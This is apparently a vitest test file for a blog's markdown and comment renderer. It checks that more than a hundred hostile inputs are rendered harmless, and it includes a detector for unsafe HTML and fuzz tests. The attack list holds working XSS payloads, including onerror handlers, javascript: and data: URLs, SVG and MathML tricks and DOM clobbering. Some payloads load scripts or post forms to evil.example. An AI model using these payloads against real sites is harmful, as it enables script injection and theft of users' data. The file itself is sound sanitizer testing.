import fc from "fast-check";
import type { Element, Root } from "hast";
import rehypeRaw from "rehype-raw";
import { unified } from "unified";
import { visit } from "unist-util-visit";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./render";
import { renderComment, renderRich } from "./render-comment";

/** Parses HTML as a browser does; what counts is the tree it makes, not how the text looks. */
const browser = unified().use(rehypeRaw).freeze();
const parseHtml = (html: string) =>
  browser.runSync({ type: "root", children: [{ type: "raw", value: html }] } as never) as Root;

const forbidden = new Set(
  "script style iframe object embed applet form base meta link svg template noscript textarea select option input-image frame frameset audio video source picture body html head title xmp plaintext".split(
    " ",
  ),
);
const mathMl = new Set(
  "math semantics annotation mrow mi mo mn mtext ms mspace mfrac msup msub msubsup mover munder munderover msqrt mroot mtable mtr mtd mstyle mpadded mphantom menclose merror".split(
    " ",
  ),
);

/** Everything in `html` that could run, load or impersonate. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const check = (node: Element) => {
    if (forbidden.has(node.tagName)) found.push(`<${node.tagName}>`);
    if (
      node.tagName === "annotation-xml" ||
      (node.tagName.startsWith("m") && !mathMl.has(node.tagName) && node.tagName !== "mark")
    )
      found.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties)) {
      const text = String(value);
      if (/^on/i.test(name)) found.push(`${node.tagName}.${name}`);
      if (
        ["style", "srcDoc", "srcSet", "action", "formAction", "background", "ping", "xLinkHref", "name"].includes(name)
      )
        found.push(`${node.tagName}.${name}`);
      if ((name === "href" || name === "src") && !/^(?:https?:\/\/|\/\/|mailto:|#|[^:]*$|[^:]*[/?#])/i.test(text))
        found.push(`${node.tagName}.${name}=${text}`);
      const bare = text.replace(/[\p{Cc} ]/gu, "");
      if ((name === "href" || name === "src") && /^(?:java|vb|live)script:|^data:/i.test(bare))
        found.push(`${name}=${text}`);
      if (name === "id" && !/^(?:user-content-|s-)/.test(text)) found.push(`id=${text}`);
    }
    if (node.tagName === "input" && (node.properties.type !== "checkbox" || !node.properties.disabled))
      found.push("<input>");
    if (node.tagName === "button" && node.properties.dataCopy === undefined) found.push("<button>");
  };
  visit(parseHtml(html), "element", check);
  return found;
}

const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror\n=\nalert(1)>",
  '<img src="x"onerror="alert(1)">',
  "<img/src=x/onerror=alert(1)>",
  "<img src=`x`onerror=alert(1)>",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  "<img src=javascript:alert(1)>",
  "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
  "<img src=x srcset='x onerror=alert(1)'>",
  "<image src=x onerror=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='javascript&NewLine;:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
  "<a href='feed:javascript:alert(1)'>x</a>",
  "<a href='https://a' ping='https://evil.example'>x</a>",
  "<a href='https://a' onclick=alert(1) target=_blank>x</a>",
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](javascript:alert(1) 'title')",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![x](https://a "x\\" onerror=alert(1)")',
  '![" onerror="alert(1)](x)',
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math href='javascript:alert(1)'>x</math>",
  "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
  "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>*{background:url(javascript:alert(1))}</style>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<div style='background:url(https://evil.example)'>x</div>",
  "<p style='position:fixed;inset:0'>x</p>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<form action='https://evil.example'><input name=password><button>x</button></form>",
  "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<input type=image src=x onerror=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</select>",
  "<textarea autofocus onfocus=alert(1)>x</textarea>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<html onmouseover=alert(1)>",
  "<table background='javascript:alert(1)'><tr><td>x</table>",
  "<table><td><script>alert(1)</script></table>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)",
  "<title><a href='</title><img src=x onerror=alert(1)>'></title>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<a id=body name=cookie>x</a><img id=main name=getElementById>",
  "<a id=__proto__ href=x>y</a><a id=constructor>z</a>",
  '<h2 id="comments">x</h2>',
  "<p id='user-content-x'><p id='user-content-x'>",
  "# <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "> [!NOTE]\n> <script>alert(1)</script>",
  "> [!<script>alert(1)</script>]\n> x",
  '```"><script>alert(1)</script>\nx\n```',
  '```js title="><img src=x onerror=alert(1)>"\nx\n```',
  "```html\n<script>alert(1)</script>\n```",
  "<pre><code class='language-html\" onclick=alert(1)'><script>alert(1)</script></code></pre>",
  "<code class='math-inline'>\\href{javascript:alert(1)}{x}</code>",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\htmlStyle{position:fixed}{x} \\htmlId{main}{y} \\htmlData{x=1}{z}$",
  "$\\includegraphics{javascript:alert(1)}$",
  "$$\\url{javascript:alert(1)}$$",
  "$\\color{red;background:url(javascript:alert(1))}{x}$",
  "$<script>alert(1)</script>$",
  "x[^1]\n\n[^1]: <script>alert(1)</script>",
  '[^"><script>alert(1)</script>]: x\n\nx[^"><script>alert(1)</script>]',
  "www.example.com/<script>alert(1)</script>",
  "https://example.com/\"onmouseover='alert(1)'",
  "a@b.c<script>alert(1)</script>",
  "\0<script>alert(1)</script>",
  "\ufeff<script>alert(1)</script>",
  "<div\n\nonclick=alert(1)\n\n>x</div>",
  "*<b onmouseover=alert(1)>x*</b>",
  "<a href='https://x'><a href='javascript:alert(1)'>y</a></a>",
  "<p><table><p onclick=alert(1)></table>",
  "\u2028<script>alert(1)</script>",
  "<ſcript>alert(1)</ſcript>",
  "＜script＞alert(1)＜/script＞",
  "<button popovertarget=x>p</button><div popover id=x>hi</div>",
  "<dialog open>x</dialog>",
  "<a href='//evil.example' rel=opener target=_top>x</a>",
];

describe("hostile texts", () => {
  it.each(attacks)("a post disarms %j", async (attack) => {
    const text = `Above ${attack}\n\n${attack}\n\n<!-- pay -->\n\n- ${attack}\n\n${attack}`;
    for (const paid of [true, false]) {
      const post = await renderMarkdown(text, { paid });
      expect(dangers(post.teaserHtml)).toEqual([]);
      expect(dangers(post.bodyHtml)).toEqual([]);
      expect(dangers(`<p>${post.excerpt.replaceAll("<", "&lt;")}</p>`)).toEqual([]);
    }
  });

  it.each(attacks)("a comment disarms %j", async (attack) => {
    const comment = await renderComment(`Hi ${attack}\n\n${attack}`);
    expect(dangers(comment.html)).toEqual([]);
    expect(comment.html).not.toMatch(/ id=/);
  });

  it("the checker itself sees dangers", () => {
    expect(dangers("<script>1</script>")).not.toEqual([]);
    expect(dangers("<img src=x onerror=1>")).not.toEqual([]);
    expect(dangers("<a href='java&#10;script:1'>x</a>")).not.toEqual([]);
    expect(dangers("<p id=main>x</p>")).not.toEqual([]);
    expect(dangers("<b style='x'>x</b>")).not.toEqual([]);
  });

  it("any mixture of markup renders without throwing and without dangers", async () => {
    const pieces = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(
        "<",
        ">",
        "</",
        "<a ",
        "href=",
        "javascript:",
        '"',
        "'",
        "`",
        "```\n",
        "$",
        "$$\n",
        "[",
        "](",
        ")",
        "!",
        "\n\n",
        "> ",
        "- ",
      ),
      fc.constantFrom(
        "<!--",
        "-->",
        "<!-- pay -->",
        "&#",
        ";",
        "|",
        "|-|\n",
        "<svg>",
        "</p>",
        "<table>",
        "<td>",
        "\\",
        "\t",
        "\ud800",
        "\0",
      ),
      fc.string({ unit: "binary", maxLength: 12 }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(pieces, { maxLength: 30 }), async (parts) => {
        const text = parts.join("");
        const post = await renderMarkdown(text, { paid: true });
        expect(dangers(post.teaserHtml + post.bodyHtml)).toEqual([]);
        expect(dangers((await renderComment(text)).html)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it("a comment without markup reads the same by the short way and the long way", async () => {
    const letters = fc.constantFrom(..."abc 好。，()!?.:;,/'\"%^{}-+#=1\n\n\t ");
    await fc.assert(
      fc.asyncProperty(fc.array(letters, { maxLength: 40 }), async (characters) => {
        const text = characters.join("");
        const short = await renderComment(text);
        const long = await renderRich(text.trim());
        expect(parseHtml(short.html)).toEqual(parseHtml(long.html));
      }),
      { numRuns: 500 },
    );
  });
});
